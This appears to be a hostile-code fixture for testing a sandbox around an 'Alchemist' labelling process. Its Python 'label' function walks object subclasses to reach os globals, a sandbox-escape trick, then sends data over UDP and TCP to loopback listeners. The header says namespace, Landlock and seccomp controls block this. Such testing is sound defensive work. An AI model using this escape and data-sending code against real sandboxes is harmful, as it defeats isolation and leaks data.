# Sends data to a listener of the Alchemist process's machine over loopback (TCP and UDP).
# Stopped by the network namespace (no interface up), Landlock (no TCP connect) and seccomp
# (no socket).
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    socket = _os_globals()["sys"].modules["socket"]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"hostile", ("127.0.0.1", int("@UDP_PORT@")))
    tcp = socket.create_connection(("127.0.0.1", int("@TCP_PORT@")), timeout=0.2)
    tcp.sendall(b"hostile")
    return 1
